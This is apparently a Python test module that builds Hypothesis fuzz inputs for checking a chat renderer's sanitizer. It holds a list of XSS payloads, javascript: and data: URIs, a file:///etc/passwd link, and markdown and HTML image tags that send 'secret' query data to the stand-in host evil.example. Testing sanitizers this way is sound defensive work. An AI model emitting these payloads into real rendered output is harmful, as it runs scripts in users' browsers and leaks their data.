"""What has made other chats run scripts, load images or carry data out, and pieces to make up more of it."""

from hypothesis import strategies as st

EVIL = "evil.example"
"""Every remote address in these texts is below it; nothing may ask it anything."""

ATTACKS = (
    f"![x](https://{EVIL}/p.png?q=secret)",
    f"![x](//{EVIL}/p.png)",
    f"![x](<https://{EVIL}/p.png> 'title')",
    f"![x][r]\n\n[r]: https://{EVIL}/p.png",
    f"![r]\n\n[r]: <https://{EVIL}/p.png> \"t\"",
    f"[read more][r]\n\n[r]: https://{EVIL}/?d=secret",
    f"[r][]\n\n> [r]: https://{EVIL}/?d=secret",
    f"[![x](https://{EVIL}/a.png)](https://{EVIL}/b)",
    f"\\`![x](https://{EVIL}/p.png)`",
    f"`` ` ![x](https://{EVIL}/p.png) ``` ![y](https://{EVIL}/p.png)",
    f"<img src=https://{EVIL}/p.png>",
    f"\\`<img src=https://{EVIL}/p.png onerror=alert(1)>`",
    f"<picture><source srcset=https://{EVIL}/p.png></picture>",
    f"<video poster=https://{EVIL}/p.png><audio src=https://{EVIL}/a autoplay>",
    f"<link rel=stylesheet href=https://{EVIL}/c.css><style>@import 'https://{EVIL}/c.css'</style>",
    f"<div style=\"background:url('https://{EVIL}/p.png')\">x</div>",
    f"<iframe src=https://{EVIL}></iframe><object data=https://{EVIL}></object><embed src=https://{EVIL}>",
    f"<meta http-equiv=refresh content='0;url=https://{EVIL}'><base href=https://{EVIL}/>",
    f"<form action=https://{EVIL}><input name=q><button>go</button></form>",
    f"<svg><image href=https://{EVIL}/p.png /><use href=https://{EVIL}/s.svg#a /></svg>",
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<details open ontoggle=alert(1)>x</details>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "</div></div></td></table><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVa\tScRiPt:alert(1))",
    "[x](&#106;avascript&colon;alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](/api/lines)",
    "[x](https://a.example \"x\\\" onmouseover=\\\"alert(1)\")",
    "<javascript:alert(1)>",
    "```html\"onload=alert(1)\n<script>alert(1)</script>\n```",
    "```\n</code></pre><script>alert(1)</script>",
    "$\\href{javascript:alert(1)}{x}$ $$\\url{javascript:alert(1)}$$ {{7*7}} ${alert(1)}",
    "| <img src=x onerror=alert(1)> | b |\n|:-:|--|\n| ![x](https://" + EVIL + "/p.png) | d |",
    "# <script>alert(1)</script>\n\n- <script>alert(1)</script>\n\n> <script>alert(1)</script>",
    "a\0b<scr\0ipt>alert(1)</scr\0ipt>",
    "\u202e<img src=x onerror=alert(1)>\u2028<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "اتصل على +966 50 123 4567<img src=x onerror=alert(1)> [4567 123 4567](javascript:alert(1)) `4567 123 4567`",
)  # fmt: skip

_PIECES = st.sampled_from(
    ["<script>", "</script>", "<img src=x onerror=alert(1)>", "<svg/onload=", "javascript:", "data:", "![", "](", ")",
     "[", "]", f"https://{EVIL}/p.png", f"//{EVIL}", "\n", "\n\n", "`", "```", "~~~", "|", "|---|", "# ", "- ", "1. ",
     "> ", "<", ">", '"', "'", "&lt;", "&#106;", "*", "**", "_", "~~", "\\", "\t", "\0", "\u200b", "\u202e", "中文", ":",
     "//", "mailto:", "tel:", "[r]: ", "[r]", "<!--", "-->", "</div>", "$", "{{", "&", "    ", " "]
)  # fmt: skip


def hostile() -> st.SearchStrategy[str]:
    """An attack cut up and grown over with pieces of others."""
    made_up = st.lists(st.one_of(_PIECES, st.text(max_size=6)), max_size=25).map("".join)
    mutated = st.builds(
        lambda attack, at, put, drop: (
            attack[: at % (len(attack) + 1)] + put + attack[at % (len(attack) + 1) + drop :]
        ),
        st.sampled_from(ATTACKS),
        st.integers(0, 400),
        made_up,
        st.integers(0, 3),
    )
    return st.one_of(made_up, mutated)
